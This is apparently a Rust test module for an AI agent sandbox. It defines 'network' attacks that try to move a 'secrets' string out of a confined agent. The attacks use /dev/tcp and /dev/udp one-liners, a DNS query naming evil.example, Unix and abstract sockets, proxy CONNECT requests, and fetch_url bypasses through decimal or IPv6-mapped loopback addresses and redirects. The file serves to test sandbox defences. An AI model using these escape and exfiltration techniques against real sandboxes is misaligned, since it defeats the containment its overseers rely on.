//! Ways out: sockets of every kind with the network off, and fetch_url.

use super::attack::{Attack, Needs, Theme};
use super::testbed::Testbed;
use crate::lab::testbed::{Result, Stuck};
use agentd_core::hosts::Hosts;
use agentd_core::spec::{Decision, Network, Rule};
use serde_json::json;

pub const THEME: Theme = Theme {
    name: "network",
    is_about_sandbox: true,
    attacks: ATTACKS,
};

/// Asks the proxy of a list of hosts, or the network if there is none, for each host of this loop.
fn through_proxy(each: &str) -> String {
    format!(
        "python3 - <<'PY'\nimport os, socket\n\
         at = os.environ.get('HTTP_PROXY', 'http://127.0.0.1:0').rsplit(':', 1)[1]\n{each}\
         \x20 for port in (int(at) or int(os.environ['TCP']),):\n\
         \x20  s = socket.socket(); s.settimeout(1)\n\
         \x20  try:\n\
         \x20   s.connect(('127.0.0.1', port))\n\
         \x20   s.sendall(b'CONNECT %s:%s HTTP/1.1\\r\\n\\r\\n' % (host.encode(), os.environ['TCP'].encode()))\n\
         \x20   s.recv(100); s.sendall(b'secrets'); s.recv(100)\n\
         \x20  except OSError: pass\nPY\nsleep 0.1"
    )
}

/// A name of this machine other than `localhost`, if it has one.
fn own_name() -> String {
    let hosts = std::fs::read_to_string("/etc/hosts").unwrap_or_default();
    let lines = hosts
        .lines()
        .filter_map(|line| line.strip_prefix("127.0.0.1"));
    let mut names = lines.flat_map(str::split_whitespace);
    let name = names.find(|name| *name != "localhost");
    name.unwrap_or("localhost").to_owned()
}

/// An agent whose list has a name of this machine on any port, and `localhost` on one.
fn with_own_name(testbed: &Testbed, agent: &str, name: &str, tool: Option<&str>) -> Result<()> {
    let port = testbed.listeners.redirecting;
    let listed = match name {
        "localhost" => vec![format!("localhost:{port}")],
        name => vec![name.to_owned(), format!("localhost:{port}")],
    };
    let listed = Hosts::parse(listed).map_err(|error| Stuck::Wrong(error.to_string()))?;
    let mut spec = testbed.spec();
    spec.network = Some(Network::Hosts(listed));
    if let Some(tool) = tool {
        spec.tools = Some(vec![tool.to_owned()]);
        spec.permissions = vec![Rule {
            tool: tool.to_owned(),
            pattern: None,
            decision: Decision::Allow,
            needs: Vec::new(),
        }];
    }
    testbed.create_known(agent, spec)
}

const ATTACKS: &[Attack] = &[
    Attack::new("tcp", "a connection with the network off", |testbed| {
        testbed.script(
            "hermit",
            "exec 3<>/dev/tcp/127.0.0.1/$TCP && echo secrets >&3",
        )?;
        Ok(testbed.heard("tcp"))
    }),
    Attack::new("udp", "a datagram with the network off", |testbed| {
        testbed.script(
            "hermit",
            "echo secrets > /dev/udp/127.0.0.1/$UDP; sleep 0.1",
        )?;
        Ok(testbed.heard("udp"))
    }),
    Attack::new("dns", "a DNS query whose name is the secret", |testbed| {
        testbed.script(
            "hermit",
            "python3 - <<'PY'\nimport os, socket, struct\n\
             name = b''.join(bytes([len(p)]) + p for p in (b'secret', b'evil', b'example')) + b'\\0'\n\
             query = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + name + struct.pack('>2H', 1, 1)\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             s.sendto(query, ('127.0.0.1', int(os.environ['UDP'])))\nPY\nsleep 0.1",
        )?;
        Ok(testbed.heard("udp"))
    }),
    Attack::new(
        "unix-socket",
        "a Unix socket outside the work tree",
        |testbed| {
            testbed.script(
            "hermit",
            "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ['UNIX']); \
             s.send(b'secrets')\"; sleep 0.1",
        )?;
            Ok(testbed.heard("unix"))
        },
    ),
    Attack::new("abstract-socket", "an abstract Unix socket", |testbed| {
        testbed.script(
            "hermit",
            "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); \
             s.connect(chr(0)+os.environ['ABSTRACT']); s.send(b'secrets')\"; sleep 0.1",
        )?;
        Ok(testbed.heard("abstract"))
    }),
    Attack::new(
        "abstract-socket-online",
        "an abstract Unix socket, with the network on",
        |testbed| {
            testbed.script(
                "hostile",
                "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); \
             s.connect(chr(0)+os.environ['ABSTRACT']); s.send(b'secrets')\"; sleep 0.1",
            )?;
            Ok(testbed.heard("abstract"))
        },
    ),
    Attack::new(
        "fetch-loopback",
        "fetch_url of a service on this machine",
        |testbed| {
            let url = format!("http://127.0.0.1:{}/", testbed.listeners.tcp);
            testbed.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
            Ok(testbed.heard("tcp"))
        },
    ),
    Attack::new(
        "fetch-name",
        "the same by a name that resolves to it",
        |testbed| {
            let url = format!("http://localhost:{}/", testbed.listeners.tcp);
            testbed.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
            Ok(testbed.heard("tcp"))
        },
    ),
    Attack::new("fetch-number", "the same as one decimal number", |testbed| {
        let url = format!("http://2130706433:{}/", testbed.listeners.tcp);
        testbed.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
        Ok(testbed.heard("tcp"))
    }),
    Attack::new(
        "fetch-mapped",
        "the same as an equivalent IPv6 address",
        |testbed| {
            let url = format!("http://[::ffff:127.0.0.1]:{}/", testbed.listeners.tcp);
            testbed.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
            Ok(testbed.heard("tcp"))
        },
    ),
    Attack::new("fetch-offline", "fetch_url with the network off", |testbed| {
        let url = format!("http://127.0.0.1:{}/", testbed.listeners.tcp);
        testbed.tool("fetching-hermit", "fetch_url", &json!({ "url": url }))?;
        Ok(testbed.heard("tcp"))
    }),
    Attack::new(
        "list-direct",
        "a host that is not in the list, without the proxy",
        |testbed| {
            testbed.script(
                "listed",
                "unset HTTP_PROXY http_proxy; exec 3<>/dev/tcp/127.0.0.1/$TCP && echo secrets >&3",
            )?;
            Ok(testbed.heard("tcp"))
        },
    )
    .needs(Needs::Workspace),
    Attack::new(
        "list-proxy",
        "the proxy of a list of hosts, asked for another one in several spellings",
        |testbed| {
            testbed.script("listed", &through_proxy("for host in ('127.0.0.1', '2130706433', 'localhost', '127.1'):\n"))?;
            Ok(testbed.heard("tcp"))
        },
    )
    .needs(Needs::Workspace),
    Attack::new(
        "list-port",
        "another port of this machine, by a listed name that resolves to it",
        |testbed| {
            let name = own_name();
            with_own_name(testbed, "list-port", &name, None)?;
            testbed.script("list-port", &through_proxy(&format!("for host in ('{name}',):\n")))?;
            Ok(testbed.heard("tcp"))
        },
    )
    .needs(Needs::Workspace)
    .alone(),
    Attack::new(
        "list-port-fetch",
        "the same by fetch_url",
        |testbed| {
            let name = own_name();
            with_own_name(testbed, "list-port-fetch", &name, Some("fetch_url"))?;
            let url = format!("http://{name}:{}/", testbed.listeners.tcp);
            testbed.tool("list-port-fetch", "fetch_url", &json!({ "url": url }))?;
            Ok(testbed.heard("tcp"))
        },
    )
    .needs(Needs::Workspace)
    .alone(),
    Attack::new(
        "list-redirect",
        "a listed host that redirects to another one",
        |testbed| {
            testbed.script(
                "listed",
                &format!(
                    "python3 -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:{}/', timeout=2)\"",
                    testbed.listeners.redirecting
                ),
            )?;
            Ok(testbed.heard("tcp"))
        },
    )
    .needs(Needs::Workspace),
    Attack::new(
        "list-datagram",
        "a DNS query with a list of hosts",
        |testbed| {
            testbed.script("listed", "echo secrets > /dev/udp/127.0.0.1/$UDP; sleep 0.1")?;
            Ok(testbed.heard("udp"))
        },
    )
    .needs(Needs::Workspace),
    Attack::new(
        "list-fetch",
        "fetch_url of a host that is not in the list",
        |testbed| {
            let url = format!("http://127.0.0.1:{}/", testbed.listeners.tcp);
            testbed.tool("listed-fetcher", "fetch_url", &json!({ "url": url }))?;
            Ok(testbed.heard("tcp"))
        },
    )
    .needs(Needs::Workspace),
    Attack::new(
        "fetch-redirect",
        "an allowed host that redirects elsewhere",
        |testbed| {
            let url = format!("http://127.0.0.1:{}/", testbed.listeners.redirecting);
            testbed.tool("led", "fetch_url", &json!({ "url": url }))?;
            Ok(testbed.heard("tcp"))
        },
    ),
];
